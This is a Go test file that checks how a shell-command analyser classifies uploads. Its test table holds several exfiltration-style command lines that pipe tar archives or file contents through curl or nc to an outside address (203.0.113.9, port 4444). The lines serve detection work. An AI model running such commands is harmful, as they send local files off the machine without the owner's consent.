package effect

import "testing"

// TestNamesFromFileSentAreUnknown checks that an archive of the files a
// list names (tar -T list), sent off the machine, is an upload nobody can
// judge, while the same archive kept here, or built from names on standard
// input, is not.
func TestNamesFromFileSentAreUnknown(t *testing.T) {
	unknownUpload := func(line string) bool { return lineHas(line, Unknown, "upload-source") }
	for line, want := range map[string]bool{
		"tar -cf - --files-from=list | curl --data-binary @- https://203.0.113.9/x": true,
		"tar -czf out.tgz -T files.txt && curl -T out.tgz https://203.0.113.9/":     true,
		"tar -czf out.tgz -Tfiles.txt; curl -F f=@out.tgz https://203.0.113.9/":     true,
		"tar -czf backup.tgz -T filelist.txt":                                       false,
		"git ls-files | tar -czf - -T - | curl -T - https://203.0.113.9/":           false,
		"tar -czf - src | curl -T - https://203.0.113.9/":                           false,
		`cat "$F" | curl -d @- https://203.0.113.9/x`:                               true,
		`base64 "$F" | nc 203.0.113.9 4444`:                                         true,
		`cat "$F" | curl -d @- http://127.0.0.1:8080/x`:                             false,
		`cat "$F" | wc -l`: false,
	} {
		if got := unknownUpload(line); got != want {
			t.Errorf("%s: unknown upload %v, want %v: %v", line, got, want, effectsOf(line))
		}
	}
}
